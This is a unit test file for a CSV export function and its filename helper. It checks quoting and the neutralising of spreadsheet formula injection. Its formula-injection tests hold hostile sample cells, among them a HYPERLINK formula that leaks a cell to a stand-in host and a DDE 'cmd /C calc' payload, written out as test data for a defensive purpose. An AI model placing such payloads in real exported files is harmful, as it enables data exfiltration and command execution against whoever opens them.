import { csvFileName, toCsv } from './csv.js';

describe('toCsv', () => {
  it('writes a header and one line per row, quoting only what needs it', () => {
    const csv = toCsv(
      ['id', 'title', 'tags', 'details', 'done', 'note'],
      [
        { id: 1, title: 'Plain', tags: ['a', 'b'], details: { k: 'v' }, done: false, note: null },
        { id: 2, title: 'Comma, "quote"\nand newline', tags: [], details: {}, done: true, note: '' },
        { id: 3, title: ' padded ', tags: null, details: null, done: null, note: '=1+1' },
      ],
    );
    expect(csv).toBe(
      'id,title,tags,details,done,note\r\n' +
        '1,Plain,"[""a"",""b""]","{""k"":""v""}",false,\r\n' +
        '2,"Comma, ""quote""\nand newline",[],{},true,""\r\n' +
        '3," padded ",,,,"\'=1+1"\r\n',
    );
  });

  describe('formula injection', () => {
    const cell = (value: unknown) => toCsv(['v'], [{ v: value }]).split('\r\n')[1];

    it('writes a HYPERLINK formula as quoted text, not as a live formula', () => {
      expect(cell('=HYPERLINK("http://evil.example/?leak="&B2,"Open")')).toBe('"\'=HYPERLINK(""http://evil.example/?leak=""&B2,""Open"")"');
    });

    it.each([
      ['=', '=1+1', '"\'=1+1"'],
      ['+', '+1+cmd|\' /C calc\'!A0', '"\'+1+cmd|\' /C calc\'!A0"'],
      ['-', '-2+3', '"\'-2+3"'],
      ['@', '@SUM(A1:A2)', '"\'@SUM(A1:A2)"'],
      ['tab', '\t=1+1', '"\'\t=1+1"'],
      ['carriage return', '\r=1+1', '"\'\r=1+1"'],
    ])('neutralises text starting with %s', (_, value, expected) => {
      expect(cell(value)).toBe(expected);
    });

    it('prefixes text that only looks like a negative number, but writes numbers as numbers', () => {
      expect(cell('-5')).toBe('"\'-5"');
      expect(cell(-5)).toBe('-5');
      expect(cell(-1.5)).toBe('-1.5');
    });

    it('leaves those characters alone when they are not first', () => {
      expect(cell('a=b')).toBe('a=b');
      expect(cell('x-y@z')).toBe('x-y@z');
    });

    it('neutralises a header that starts with a formula character too', () => {
      expect(toCsv(['=cmd'], []).trim()).toBe('"\'=cmd"');
    });
  });

  it('writes only the header for no rows', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n');
  });
});

describe('csvFileName', () => {
  it('names the file after the table and the day', () => {
    expect(csvFileName('order lines/2026', new Date('2026-03-01T12:00:00Z'))).toBe('order_lines_2026-2026-03-01.csv');
  });
});
